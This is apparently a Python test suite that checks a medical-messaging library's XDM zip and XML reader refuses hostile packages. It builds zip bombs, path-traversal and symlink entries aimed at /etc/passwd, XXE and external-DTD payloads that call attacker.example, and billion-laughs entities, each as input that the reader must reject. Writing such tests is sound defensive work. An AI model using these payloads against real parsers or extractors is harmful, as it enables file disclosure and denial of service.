"""Hostile XDM packages (issue 6 item 3): each class is refused with its own reason code, as a
whole, before any document is handed out, and nothing is written anywhere."""

from __future__ import annotations

import io
import os
import random
import stat
import struct
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mssante.formats.safezip import UnsafeArchive, ZipLimits, read_zip, write_zip
from mssante.formats.xdm import REFUSALS, XdmDocumentInput, build_xdm, read_xdm, validate_xdm
from mssante.formats.xdm_metadata import (
    Code,
    DocumentEntry,
    MetadataError,
    SubmissionSet,
    UnsafeXml,
    XmlLimits,
    format_patient_id,
    parse_metadata,
)

MIB = 1024 * 1024
METADATA = "IHE_XDM/SUBSET01/METADATA.XML"
LCM = "urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0"


@pytest.fixture(autouse=True)
def nothing_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The reader is pure: run each test in an empty folder and check it stays empty."""
    monkeypatch.chdir(tmp_path)
    yield
    assert list(tmp_path.iterdir()) == []


def refused(data: bytes, **kwargs: Any) -> str:
    """The reason code of the refusal; also checks ``validate_xdm`` reports that same code."""
    with pytest.raises((UnsafeArchive, MetadataError)) as caught:
        read_xdm(data, lenient=True, **kwargs)
    reason = str(caught.value.reason_code)
    assert [p.code for p in validate_xdm(data, **kwargs)] == [reason]
    return reason


def package(extra: dict[str, bytes] | None = None, metadata: bytes = b"<x/>") -> bytes:
    members = {"README.TXT": b"readme", "INDEX.HTM": b"<html/>", METADATA: metadata}
    return write_zip({**members, **(extra or {})})


def raw_zip(*entries: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    """A zip written without any of our checks, for the archives ``write_zip`` refuses."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, content in entries:
            zf.writestr(info, content)
    return buffer.getvalue()


def zeros_zip(names: list[str], megabytes: int, *, zip64: bool = True, noise: int = 0) -> bytes:
    """Members of ``megabytes`` MiB each, streamed 1 MiB at a time: zeros, except ``noise``
    random bytes at the start of each MiB (16 KiB of noise keep the ratio near 60)."""
    buffer = io.BytesIO()
    chunk = random.Random(0).randbytes(noise) + bytes(MIB - noise)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name in names:
            with zf.open(name, "w", force_zip64=zip64) as stream:
                for _ in range(megabytes):
                    stream.write(chunk)
    return buffer.getvalue()


def patch_central_directory(data: bytes, offset: int, fmt: str, value: int) -> bytes:
    """Overwrite one field of the (first) central directory header."""
    start = data.rindex(b"PK\x01\x02")
    patched = bytearray(data)
    struct.pack_into(fmt, patched, start + offset, value)
    return bytes(patched)


def peak_memory_of_refusal(data: bytes) -> tuple[str, int]:
    tracemalloc.start()
    try:
        with pytest.raises(UnsafeArchive) as caught:
            read_xdm(data)
        return str(caught.value.reason_code), tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


# --------------------------------------------------------------------------- zip bombs


def test_zip_bomb_by_total_size() -> None:
    # 2 x 80 MiB: each member under the 100 MiB member limit and the ratio limit of 100,
    # together over the 150 MiB total
    names = ["IHE_XDM/SUBSET01/DOC0001.XML", "IHE_XDM/SUBSET01/DOC0002.XML"]
    data = zeros_zip(names, 80, noise=16 * 1024)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert all(30 < i.file_size / i.compress_size < 100 for i in zf.infolist())
    reason, peak = peak_memory_of_refusal(data)
    assert reason == "total-too-large"
    assert peak < 10 * MIB


def test_total_size_limit_is_configurable() -> None:
    documents = {"IHE_XDM/SUBSET01/DOC0001.XML": bytes(3000), "IHE_XDM/SUBSET01/DOC0002.XML": b""}
    assert refused(package(documents), limits=ZipLimits(max_total_size=3000)) == "total-too-large"


def test_zip_bomb_by_compression_ratio() -> None:
    # 5 MiB of zeros deflate to ~5 KiB: a ratio near 1000, far under the size limits
    assert refused(zeros_zip(["IHE_XDM/SUBSET01/DOC0001.XML"], 5)) == "ratio"


def test_a_200_mb_member_is_refused_without_being_inflated() -> None:
    data = zeros_zip(["IHE_XDM/SUBSET01/DOC0001.XML"], 200)
    assert len(data) < 1 * MIB
    reason, peak = peak_memory_of_refusal(data)
    assert reason == "member-too-large"
    assert peak < 10 * MIB  # refused from its declared size


def test_a_member_lying_about_its_size_is_refused_while_inflating() -> None:
    data = zeros_zip(["IHE_XDM/SUBSET01/DOC0001.XML"], 50, zip64=False)
    lying = patch_central_directory(data, 24, "<I", 1000)  # uncompressed size: 1000 bytes
    reason, peak = peak_memory_of_refusal(lying)
    assert reason == "size-mismatch"
    assert peak < 10 * MIB  # stopped after the first 64 KiB, not after 50 MiB


def test_too_many_members() -> None:
    data = write_zip({f"IHE_XDM/SUBSET01/F{i:04d}.TXT": b"" for i in range(1001)})
    assert refused(data) == "too-many-members"


def test_a_nested_archive() -> None:
    inner = write_zip({"A.TXT": b"a"})
    assert refused(package({"IHE_XDM/SUBSET01/DOC0001.ZIP": inner})) == "nested-archive"


# --------------------------------------------------------------------------- names and entry types


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "IHE_XDM/../../evil.sh", "IHE_XDM/SUBSET01/..", "..\\evil.bat"]
)
def test_path_traversal(name: str) -> None:
    assert refused(raw_zip((name, b"x"))) == "path-traversal"


@pytest.mark.parametrize(
    "name", ["/etc/cron.d/evil", "C:/Windows/evil.exe", "c:evil.exe", "IHE_XDM\\SUBSET01\\X.XML"]
)
def test_absolute_path(name: str) -> None:
    assert refused(raw_zip((name, b"x"))) == "absolute-path"


@pytest.mark.parametrize("name", ["IHE_XDM//X.XML", "IHE_XDM/./X.XML", "A\x01.XML", "A" * 300])
def test_bad_name(name: str) -> None:
    assert refused(raw_zip((name, b"x"))) == "bad-name"


def unix_entry(name: str, mode: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def test_symlink() -> None:
    link = unix_entry("IHE_XDM/SUBSET01/DOC0001.XML", stat.S_IFLNK | 0o777)
    assert refused(raw_zip((link, b"/etc/passwd"))) == "symlink"


def test_special_file() -> None:
    device = unix_entry("IHE_XDM/SUBSET01/DOC0001.XML", stat.S_IFCHR | 0o666)
    assert refused(raw_zip((device, b""))) == "special-file"


@pytest.mark.parametrize(
    "names",
    [
        ("IHE_XDM/SUBSET01/METADATA.XML", "IHE_XDM/SUBSET01/METADATA.XML"),
        ("IHE_XDM/SUBSET01/METADATA.XML", "IHE_XDM/SUBSET01/metadata.xml"),
        ("IHE_XDM/SUBSET01/METADATA.XML", "ihe_xdm/subset01/METADATA.XML"),
        ("IHE_XDM", "IHE_XDM/SUBSET01/METADATA.XML"),  # a file that is also a folder
    ],
)
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_duplicate_names(names: tuple[str, str]) -> None:
    assert refused(raw_zip(*((name, b"<x/>") for name in names))) == "duplicate-name"


def test_encrypted_member() -> None:
    data = patch_central_directory(raw_zip((METADATA, b"<x/>")), 8, "<H", 0x1)
    assert refused(data) == "encrypted"


def test_unsupported_compression() -> None:
    info = zipfile.ZipInfo(METADATA)
    info.compress_type = zipfile.ZIP_BZIP2
    assert refused(raw_zip((info, b"<x/>"))) == "unsupported-compression"


def test_corrupt_member() -> None:
    data = patch_central_directory(raw_zip((METADATA, b"<x/>" * 100)), 16, "<I", 0xDEADBEEF)
    assert refused(data) == "corrupt"


def test_not_a_zip_and_truncated() -> None:
    assert refused(b"%PDF-1.7 not a zip") == "not-a-zip"
    data = package()
    assert refused(data[: len(data) // 2]) == "truncated"


# --------------------------------------------------------------------------- hostile METADATA.XML


def test_xxe_external_entity() -> None:
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<lcm:SubmitObjectsRequest xmlns:lcm="'
        + LCM.encode()
        + b'">&xxe;</lcm:SubmitObjectsRequest>'
    )
    assert refused(package(metadata=xml)) == "xml-external-entity"


def test_xxe_parameter_entity_to_the_network() -> None:
    xml = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>'
    assert refused(package(metadata=xml)) == "xml-external-entity"


def test_billion_laughs() -> None:
    entities = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    xml = f'<!DOCTYPE r [<!ENTITY lol0 "lol">{entities}]><r>&lol9;</r>'.encode()
    assert refused(package(metadata=xml)) == "xml-entity"


def test_external_dtd() -> None:
    xml = b'<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>'
    assert refused(package(metadata=xml)) == "xml-dtd"
    public = b'<!DOCTYPE r PUBLIC "-//X//EN" "http://attacker.example/evil.dtd"><r/>'
    assert refused(package(metadata=public)) == "xml-dtd"
    internal = b"<!DOCTYPE r [<!ELEMENT r ANY>]><r/>"
    assert refused(package(metadata=internal)) == "xml-dtd"


def test_deep_nesting() -> None:
    xml = b"<a>" * 10_000 + b"</a>" * 10_000
    assert refused(package(metadata=xml)) == "xml-too-deep"


def test_too_many_elements_and_too_large() -> None:
    xml = b"<r>" + b"<a/>" * 1000 + b"</r>"
    assert refused(package(metadata=xml), xml_limits=XmlLimits(max_elements=500)) == (
        "xml-too-many-elements"
    )
    assert refused(package(metadata=xml), xml_limits=XmlLimits(max_bytes=1000)) == "xml-too-large"


def test_malformed_or_foreign_metadata_is_refused_too() -> None:
    assert refused(package(metadata=b"<r>")) == "malformed-xml"
    assert refused(package(metadata=b"<r/>")) == "no-submit-objects-request"
    assert refused(package(metadata=b'<?xml version="1.0" encoding="utb-8"?><r/>')) == (
        "malformed-xml"
    )


def test_unsafe_xml_is_a_metadata_error_with_its_reason() -> None:
    with pytest.raises(UnsafeXml) as caught:
        parse_metadata(b'<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>')
    assert caught.value.reason_code == "xml-entity"


def test_read_zip_keeps_good_archives_working() -> None:
    """The guards do not refuse what the builder writes, nor the real samples."""
    data = package({"IHE_XDM/SUBSET01/DOC0001.XML": b"<a/>" * 10_000})
    assert list(read_zip(data)) == [
        "README.TXT",
        "INDEX.HTM",
        METADATA,
        "IHE_XDM/SUBSET01/DOC0001.XML",
    ]
    shared = Path(
        os.environ.get(
            "MSSANTE_SHARED_DATA", Path(__file__).resolve().parents[1].parent / "shared" / "data"
        )
    )
    if (shared / "xdm" / "samplexdm.zip").exists():
        assert len(read_zip((shared / "xdm" / "samplexdm.zip").read_bytes())) == 5


def a_good_package() -> bytes:
    patient = format_patient_id("295109912611193")
    code = Code("X", "1.2.3", "x")
    entry = DocumentEntry(
        unique_id="1.2.3.4",
        patient_id=patient,
        mime_type="text/xml",
        class_code=code,
        type_code=code,
        format_code=code,
        confidentiality_codes=(code,),
        healthcare_facility_type_code=code,
        practice_setting_code=code,
        creation_time="20240101000000",
    )
    submission = SubmissionSet(
        unique_id="1.2.3",
        source_id="1.2",
        patient_id=patient,
        submission_time="20240101000000",
        content_type_code=code,
    )
    document = XdmDocumentInput(b"<a>" + b"x" * 500 + b"</a>", "text/xml", entry)
    return build_xdm(submission, [document], sender_name="s", sender_software="t")


GOOD = a_good_package()


@settings(
    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(st.tuples(st.integers(0, len(GOOD) - 1), st.integers(0, 255)), min_size=1, max_size=6),
    st.none() | st.integers(0, len(GOOD)),
    st.booleans(),
)
def test_damaged_packages_are_read_or_refused_never_crash(
    changes: list[tuple[int, int]], cut: int | None, lenient: bool
) -> None:
    """Fuzzing: whatever the damage, the reader returns a package or raises a refusal."""
    data = bytearray(GOOD)
    for position, value in changes:
        data[position] = value
    try:
        read_xdm(bytes(data[:cut]), lenient=lenient)
    except REFUSALS as exc:
        assert exc.reason_code
